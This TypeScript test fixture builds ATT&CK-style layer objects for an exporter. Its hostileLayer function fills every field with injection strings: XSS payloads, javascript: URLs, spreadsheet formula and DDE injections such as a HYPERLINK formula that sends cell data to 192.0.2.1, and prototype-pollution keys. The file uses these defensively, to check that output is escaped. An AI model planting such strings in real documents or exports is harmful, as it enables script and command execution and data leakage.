import {
  emptyLayer,
  type Layer,
  type LayerTechnique,
  safeGradient,
} from '../../src/layers/index.js';

/** An entry of a layer that says only what is given. */
export function layerEntry(
  techniqueId: string,
  said: Partial<LayerTechnique> = {},
): LayerTechnique {
  return {
    techniqueId,
    tactic: undefined,
    comment: '',
    enabled: true,
    score: undefined,
    color: '',
    metadata: [],
    links: [],
    showSubtechniques: false,
    unknown: {},
    ...said,
  };
}

/** A layer over Enterprise that says nothing. */
export function blankLayer(name = 'Blank'): Layer {
  return emptyLayer({ name, domain: 'enterprise-attack', attackVersion: '99.1' });
}

/** A layer over the tiny ATT&CK that uses everything a layer can say. */
export function busyLayer(): Layer {
  const layer = blankLayer('Detection coverage, site A');
  return {
    ...layer,
    description: 'What the made-up site A detects. Scores are tests passed, 0 to 100.',
    gradient: safeGradient(0, 100),
    layout: { ...layer.layout, layout: 'flat', expandedSubtechniques: 'all' },
    legendItems: [
      { label: 'accepted risk', color: '#e08214', unknown: {} },
      { label: 'tested in 2026', color: '#d9c45c', unknown: {} },
    ],
    metadata: [{ kind: 'metadata', name: 'owner', value: 'Blue team', unknown: {} }],
    links: [{ kind: 'link', label: 'wiki', url: 'https://example.com/site-a', unknown: {} }],
    techniques: [
      layerEntry('T9001', { score: 55 }),
      layerEntry('T9001.001', {
        score: 100,
        comment: 'Script block logging,\n"4104"',
        links: [{ kind: 'link', label: 'rule', url: 'https://example.com/r?a=1&b=2', unknown: {} }],
        metadata: [
          { kind: 'metadata', name: 'evidence', value: 'atomic test 12, 2026-03-01', unknown: {} },
          { kind: 'divider', divider: true, unknown: {} },
          { kind: 'metadata', name: 'analyst', value: 'J. Doe', unknown: {} },
        ],
      }),
      layerEntry('T9001.002', { score: 10 }),
      layerEntry('T9001.003', { comment: 'no test yet' }),
      layerEntry('T9002', { tactic: 'initial-access', score: 0 }),
      layerEntry('T9002', { tactic: 'execution', enabled: false, comment: 'out of scope' }),
      layerEntry('T9003', { score: 35 }),
      layerEntry('T9003.001', { score: 78 }),
      layerEntry('T9004', { color: '#e08214' }),
      layerEntry('T9008', { score: 60 }),
      layerEntry('T9009'),
      layerEntry('T7777', { score: 5, comment: 'of no version' }),
    ],
  };
}

/** Strings that have broken exporters, one for each field of a layer that takes text. */
const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "';alert(1);//",
  ']]><svg onload=alert(1)>',
  '&lt;b&gt; &#x3C;',
  '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '| a | b |\n| --- | --- |',
  '[x](javascript:alert(1)) ![i](http://192.0.2.1/t.png)',
  '`code` **bold** _x_ # head\n- list',
  'a\u0000b\u0008c\u001fd\ufffe',
  'half \ud800 pair \udc00',
  '\u202egnp.exe',
  'constructor',
  '__proto__',
  '_x0041_ stays',
  '名前 🦉 Ünïcödé',
] as const;

/** A layer over the tiny ATT&CK with hostile text in every field. */
export function hostileLayer(): Layer {
  const ids = ['T9001', 'T9001.001', 'T9001.002', 'T9001.003', 'T9002', 'T9003', 'T9004', 'T9005'];
  const at = (index: number): string => HOSTILE_TEXTS[index % HOSTILE_TEXTS.length] ?? '';
  const layer = blankLayer(at(0));
  return {
    ...layer,
    description: HOSTILE_TEXTS.join(' '),
    versions: { ...layer.versions, attack: at(1) },
    filters: { platforms: undefined, unknown: {} },
    layout: { ...layer.layout, expandedSubtechniques: 'all', showId: true },
    legendItems: HOSTILE_TEXTS.map((label) => ({ label, color: at(0), unknown: {} })),
    showTacticRowBackground: true,
    tacticRowBackground: '#fff" onload="alert(1)',
    gradient: { ...layer.gradient, colors: ['url(javascript:alert(1))', '"/><script>'] },
    metadata: HOSTILE_TEXTS.map((value) => ({ kind: 'metadata', name: value, value, unknown: {} })),
    links: HOSTILE_TEXTS.map((url) => ({ kind: 'link', label: url, url, unknown: {} })),
    techniques: [
      ...HOSTILE_TEXTS.map((comment, index) =>
        layerEntry(ids[index % ids.length] ?? '', {
          comment,
          score: index * 5,
          color: index % 3 === 0 ? '#"><script>' : '',
          metadata: [{ kind: 'metadata', name: comment, value: comment, unknown: {} }],
          links: [
            { kind: 'link', label: comment, url: comment, unknown: {} },
            { kind: 'link', label: comment, url: 'javascript:alert(1)', unknown: {} },
          ],
        }),
      ),
      ...HOSTILE_TEXTS.map((id) => layerEntry(id, { tactic: id, score: 1, comment: id })),
    ],
  };
}
